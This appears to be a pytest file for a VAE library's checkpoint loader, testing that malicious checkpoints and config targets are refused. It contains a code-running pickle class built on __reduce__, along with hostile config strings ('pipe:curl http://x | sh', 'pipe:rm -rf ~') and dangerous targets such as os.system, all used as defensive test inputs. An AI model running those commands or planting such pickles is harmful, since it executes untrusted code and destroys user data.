"""A downloaded checkpoint cannot run code: weights_only loading, allowlisted config targets,
older latentzoo checkpoints converted with a notice, and ``trust_checkpoint=true`` as the only
way past a refusal."""

from __future__ import annotations

import json
import logging
from pathlib import Path

import numpy as np
import pytest
import torch
from omegaconf import OmegaConf

from latentzoo.callbacks.randomness import capture_rng, rng_from_checkpoint
from latentzoo.models import BetaVAE
from latentzoo.utils.checkpoint import checkpoint_config, load_checkpoint
from latentzoo.utils.errors import CheckpointError
from latentzoo.utils.safe_load import check_config_targets, target_allowed, to_plain
from tests.conftest import TINY, compose_config

CONFIG = {"model": {"_target_": "latentzoo.models.BetaVAE"}, "data": {"_target_": "x"}}


class WritesFile:
    """Unpickling this calls ``Path.write_text``: code that runs on ``torch.load``."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self):
        return Path.write_text, (self.path, "code ran")


class ForeignBetaVAE(BetaVAE):
    """A model class outside the allowlist (this test module), for the trust_checkpoint test."""


def minimal(config: dict | None = None, **extra) -> dict:
    return {
        "state_dict": {"w": torch.ones(2)},
        "global_step": 3,
        "latentzoo": {"config": config or {"model": {"_target_": "latentzoo.models.BetaVAE"}}},
        **extra,
    }


def old_format(checkpoint: dict) -> dict:
    """What latentzoo wrote before plain checkpoints: omegaconf containers in the model's
    hyper_parameters and raw ``np.random.get_state()`` tuples in TrainingRandomness."""
    return {
        **checkpoint,
        "hyper_parameters": {"image_shape": OmegaConf.create([1, 64, 64]), "beta": 4.0},
        "callbacks": {"TrainingRandomness": {"seed": 1, "world_size": 1, "rng": [capture_rng()]}},
    }


def test_pickle_that_runs_code_is_refused_and_does_not_run(tmp_path: Path) -> None:
    marker = tmp_path / "pwned.txt"
    path = tmp_path / "evil.ckpt"
    torch.save(minimal(payload=WritesFile(marker)), path)
    with pytest.raises(CheckpointError) as refused:
        load_checkpoint(path)
    message = str(refused.value)
    assert "\n" not in message and "could run code" in message and "pathlib" in message
    assert "trust_checkpoint=true" in message
    assert not marker.exists()
    # mixed into an otherwise old-format latentzoo checkpoint: still refused
    torch.save(old_format(minimal(payload=WritesFile(marker))), path)
    with pytest.raises(CheckpointError, match="could run code"):
        load_checkpoint(path)
    assert not marker.exists()
    # the crafted pickle does run code when trusted: the refusal above is what stopped it
    load_checkpoint(path, trust=True)
    assert marker.read_text() == "code ran"


@pytest.mark.parametrize(
    "target",
    ["os.system", "builtins.eval", "hydra.utils.call", "torch.hub.load", "torch._C._foo",
     "latentzoo.models.BetaVAE.load_from_checkpoint", "tests.utils.test_safe_checkpoints.X"],
)  # fmt: skip
def test_config_target_outside_the_allowlist_is_refused_by_name(tmp_path, target) -> None:
    config = {"model": {"_target_": "latentzoo.models.BetaVAE", "net": {"_target_": target}}}
    path = tmp_path / "m.ckpt"
    torch.save(minimal(config), path)
    checkpoint = load_checkpoint(path)  # tensors and plain values: loads
    with pytest.raises(CheckpointError) as refused:
        checkpoint_config(checkpoint, path)
    message = str(refused.value)
    assert "\n" not in message and f"_target_ {target} (at model.net)" in message
    assert "trust_checkpoint=true" in message
    assert checkpoint_config(checkpoint, path, trust=True).model.net._target_ == target


def test_allowlisted_targets_and_unsafe_switches() -> None:
    for target in ("latentzoo.models.BetaVAE", "torch.optim.Adam", "lightning.pytorch.Trainer"):
        assert target_allowed(target), target
    check_config_targets({"data": {"urls": ["shards/a-{000..009}.tar"]}}, "c")
    for bad in (
        {"data": {"urls": "pipe:curl http://x | sh"}},
        {"data": {"urls": ["a.tar", "pipe:rm -rf ~"]}},
        {"model": {"ae": {"trust_remote_code": True}}},
        {"model": {"unsafe_load": True}},
    ):
        with pytest.raises(CheckpointError, match="would load code"):
            check_config_targets(bad, "c")
        check_config_targets(bad, "c", trust=True)


def test_saved_hyper_parameters_load_with_weights_only(tmp_path: Path) -> None:
    hparams = {"image_shape": OmegaConf.create([1, 8, 8]), "sampler": OmegaConf.create({"s": 2})}
    plain = to_plain({"hyper_parameters": hparams, "n": np.int64(3), "p": tmp_path})
    torch.save(plain, tmp_path / "c.ckpt")
    loaded = torch.load(tmp_path / "c.ckpt", weights_only=True)
    assert loaded["hyper_parameters"] == {"image_shape": [1, 8, 8], "sampler": {"s": 2}}
    assert loaded["n"] == 3 and loaded["p"] == str(tmp_path)
    state = torch.nn.Linear(2, 2).state_dict()
    assert to_plain(state) is state  # kept as is, with its _metadata


def test_atomic_checkpoint_io_saves_plain_and_loads_safely(tmp_path: Path) -> None:
    from latentzoo.utils.checkpoint_io import AtomicCheckpointIO

    io = AtomicCheckpointIO()
    checkpoint = minimal(hyper_parameters={"image_shape": OmegaConf.create([1, 8, 8])})
    io.save_checkpoint(checkpoint, tmp_path / "a.ckpt")
    assert torch.serialization.get_unsafe_globals_in_checkpoint(tmp_path / "a.ckpt") == []
    assert io.load_checkpoint(tmp_path / "a.ckpt")["hyper_parameters"]["image_shape"] == [1, 8, 8]
    marker = tmp_path / "pwned.txt"
    torch.save(minimal(payload=WritesFile(marker)), tmp_path / "evil.ckpt")
    with pytest.raises(CheckpointError, match="could run code"):
        io.load_checkpoint(tmp_path / "evil.ckpt")  # what Lightning's fit(ckpt_path=...) calls
    assert not marker.exists()


def test_old_latentzoo_checkpoint_loads_converted_with_a_notice(tmp_path, caplog) -> None:
    path = tmp_path / "old.ckpt"
    rng = capture_rng()
    torch.save(old_format(minimal()), path)
    with pytest.raises(Exception, match="Unsupported global"):
        torch.load(path, weights_only=True)  # really the old format
    with caplog.at_level(logging.WARNING):
        checkpoint = load_checkpoint(path)
    notices = [r.getMessage() for r in caplog.records if "older latentzoo" in r.getMessage()]
    assert len(notices) == 1 and "\n" not in notices[0]
    assert checkpoint["hyper_parameters"]["image_shape"] == [1, 64, 64]
    saved = checkpoint["callbacks"]["TrainingRandomness"]["rng"][0]
    torch_state, np_state, py_state, _ = rng_from_checkpoint(saved)
    assert torch.equal(torch_state, rng[0]) and py_state == rng[2]
    assert np.array_equal(np_state[1], rng[1][1]) and np_state[2] == rng[1][2]
    # omegaconf/numpy objects in a file latentzoo did not write: refused
    foreign = old_format(minimal())
    del foreign["latentzoo"]
    torch.save(foreign, path)
    with pytest.raises(CheckpointError, match="not written by latentzoo"):
        load_checkpoint(path)


@pytest.mark.parametrize(
    ("content", "cause"),
    [(b"", "empty"), (b"version https://git-lfs.github.com/spec/v1\n", "text file"),
     (b"PK\x03\x04garbage", "damaged"), (b"\x00\xff\x13\x37" * 10, "not a PyTorch checkpoint")],
)  # fmt: skip
def test_unreadable_file_is_named_with_its_cause(tmp_path, content, cause) -> None:
    path = tmp_path / "bad.ckpt"
    path.write_bytes(content)
    with pytest.raises(CheckpointError) as refused:
        load_checkpoint(path)
    message = str(refused.value)
    assert str(path) in message and cause in message and "\n" not in message
    assert "zipfile_serialization" not in message


@pytest.mark.slow
def test_train_eval_resume_round_trip_with_weights_only(tmp_path: Path, caplog) -> None:
    from latentzoo.eval import evaluate
    from latentzoo.train import train

    run = tmp_path / "run"
    train(compose_config("train", [*TINY, "trainer.max_steps=2", "test=false"], run))
    last = run / "checkpoints" / "last.ckpt"
    assert torch.serialization.get_unsafe_globals_in_checkpoint(last) == []
    torch.load(last, weights_only=True)

    eval_args = ["trainer.enable_progress_bar=false", "callbacks=none", "test_loop=false"]
    evaluate(compose_config("eval", [f"ckpt_path={last}", *eval_args], tmp_path / "eval"))
    assert json.loads((tmp_path / "eval" / "metrics.json").read_text())["global_step"] == 2

    # a model class outside the allowlist: refused by name; loads with trust_checkpoint=true
    foreign = torch.load(last, weights_only=True)
    target = f"{__name__}.ForeignBetaVAE"
    foreign["latentzoo"]["config"]["model"]["_target_"] = target
    torch.save(foreign, tmp_path / "foreign.ckpt")
    args = [f"ckpt_path={tmp_path / 'foreign.ckpt'}", *eval_args]
    with pytest.raises(CheckpointError, match=f"_target_ {target}"):
        evaluate(compose_config("eval", args, tmp_path / "e2"))
    assert not (tmp_path / "e2" / "metrics.json").exists()
    _, objects = evaluate(compose_config("eval", [*args, "trust_checkpoint=true"], tmp_path / "e3"))
    assert type(objects["model"]) is ForeignBetaVAE

    # resume, through Lightning's loader, from the new and from an old-format checkpoint
    old = tmp_path / "old.ckpt"
    checkpoint = torch.load(last, weights_only=True)
    hparams = OmegaConf.create(checkpoint["hyper_parameters"])
    raw_rng = rng_from_checkpoint(checkpoint["callbacks"]["TrainingRandomness"]["rng"][0])
    checkpoint["hyper_parameters"] = hparams
    checkpoint["callbacks"]["TrainingRandomness"]["rng"] = [raw_rng]
    torch.save(checkpoint, old)
    overrides = [o for o in TINY if not o.startswith("trainer.max_steps")]
    for name, source in (("new", last), ("old", old)):
        caplog.clear()
        out = tmp_path / f"resumed_{name}"
        args = [*overrides, "trainer.max_steps=4", f"ckpt_path={source}", "test=false"]
        with caplog.at_level(logging.WARNING):
            _, objects = train(compose_config("train", args, out))
        assert objects["trainer"].global_step == 4
        noticed = any("older latentzoo" in r.getMessage() for r in caplog.records)
        assert noticed == (name == "old")
        torch.load(out / "checkpoints" / "last.ckpt", weights_only=True)
